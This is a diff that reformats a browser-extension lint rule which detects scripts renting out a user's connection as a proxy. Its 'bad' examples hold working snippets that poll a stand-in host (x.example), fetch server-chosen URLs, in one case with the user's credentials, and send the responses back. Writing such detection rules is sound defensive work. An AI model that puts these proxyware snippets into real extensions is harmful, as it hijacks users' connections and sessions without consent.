@@ -14,7 +14,10 @@ export const fetchesForOthers = defineRule({
   category: 'code',
   applies: 'extension',
   cwe: 'CWE-441',
-  references: ['https://attack.mitre.org/techniques/T1090/', 'https://developer.chrome.com/docs/webstore/program-policies/malicious-and-prohibited'],
+  references: [
+    'https://attack.mitre.org/techniques/T1090/',
+    'https://developer.chrome.com/docs/webstore/program-policies/malicious-and-prohibited',
+  ],
   why: 'A server sends addresses, the browser fetches them with the address and the log-ins of the person, and sends the answers back. The connection is rented out, whatever is done with it.',
   remedy: 'Take this out; nobody’s connection may be used without a clear agreement.',
   check: checkScripts(function* ({ script, hit }) {
@@ -24,22 +27,39 @@ export const fetchesForOthers = defineRule({
       if (!request.to.startsWith('*') || !isFromServer(script, request.address)) continue;
       const ordered = originPaths(script, request.address).has('WebSocket');
       // The server describes the whole request, not only where it goes.
-      const described = ['method', 'body'].every((name) => request.sent.some((value) => isFromServer(script, propertyOf(script, value, name))));
+      const described = ['method', 'body'].every((name) =>
+        request.sent.some((value) => isFromServer(script, propertyOf(script, value, name))),
+      );
       if (!ordered && !described && !unaskedCalls(script).has(request.value)) continue;
       const out = leavesBy(script, new Set([request.value]), ['network']);
       if (out === undefined || out.value === request.value) continue;
-      yield hit(request.value, ordered || described ? { confidence: 'high' } : { severity: 'medium', message: `The answer goes to ${out.to}.` });
+      yield hit(
+        request.value,
+        ordered || described
+          ? { confidence: 'high' }
+          : { severity: 'medium', message: `The answer goes to ${out.to}.` },
+      );
     }
   }),
   examples: {
     bad: [
-      backgroundExample('const ws = new WebSocket("wss://x.example/node"); ws.onmessage = async (e) => { const job = JSON.parse(e.data); const r = await fetch(job.url, job.options); ws.send(JSON.stringify({ id: job.id, body: await r.text() })); };'),
-      backgroundExample('async function work() { const job = await (await fetch("https://x.example/job")).json(); const page = await (await fetch(job.url)).text(); await fetch("https://x.example/done", { method: "POST", body: page }); } setInterval(work, 60000);'),
-      backgroundExample('class Job { constructor(raw) { Object.assign(this, raw); } async run() { const r = await fetch(this.u, { method: this.m, body: this.b, credentials: "include" }); return { s: r.status, t: await r.text() }; } } async function step() { const res = await fetch("https://x.example/poll"); const job = new Job(await res.json()); const out = await job.run(); await fetch("https://x.example/result", { method: "POST", body: JSON.stringify(out) }); } step();'),
+      backgroundExample(
+        'const ws = new WebSocket("wss://x.example/node"); ws.onmessage = async (e) => { const job = JSON.parse(e.data); const r = await fetch(job.url, job.options); ws.send(JSON.stringify({ id: job.id, body: await r.text() })); };',
+      ),
+      backgroundExample(
+        'async function work() { const job = await (await fetch("https://x.example/job")).json(); const page = await (await fetch(job.url)).text(); await fetch("https://x.example/done", { method: "POST", body: page }); } setInterval(work, 60000);',
+      ),
+      backgroundExample(
+        'class Job { constructor(raw) { Object.assign(this, raw); } async run() { const r = await fetch(this.u, { method: this.m, body: this.b, credentials: "include" }); return { s: r.status, t: await r.text() }; } } async function step() { const res = await fetch("https://x.example/poll"); const job = new Job(await res.json()); const out = await job.run(); await fetch("https://x.example/result", { method: "POST", body: JSON.stringify(out) }); } step();',
+      ),
     ],
     good: [
-      backgroundExample('async function all() { let url = "https://api.example.com/items"; while (url) { const d = await (await fetch(url)).json(); keep(d.items); url = d.next; } }'),
-      backgroundExample('const ws = new WebSocket("wss://chat.example"); ws.onmessage = (e) => show(e.data); fetch("https://api.example.com/x").then((r) => r.text()).then(show);'),
+      backgroundExample(
+        'async function all() { let url = "https://api.example.com/items"; while (url) { const d = await (await fetch(url)).json(); keep(d.items); url = d.next; } }',
+      ),
+      backgroundExample(
+        'const ws = new WebSocket("wss://chat.example"); ws.onmessage = (e) => show(e.data); fetch("https://api.example.com/x").then((r) => r.text()).then(show);',
+      ),
     ],
   },
 });
